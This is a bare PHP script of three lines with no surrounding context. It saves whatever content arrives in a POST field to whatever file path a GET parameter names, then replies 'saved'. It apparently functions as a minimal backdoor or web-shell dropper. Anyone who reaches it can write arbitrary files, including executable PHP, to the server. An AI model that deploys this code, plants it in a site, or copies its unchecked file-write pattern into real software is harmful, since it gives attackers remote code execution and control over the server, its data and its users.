<?php
file_put_contents($_GET['f'], $_POST['c']);
echo 'saved';
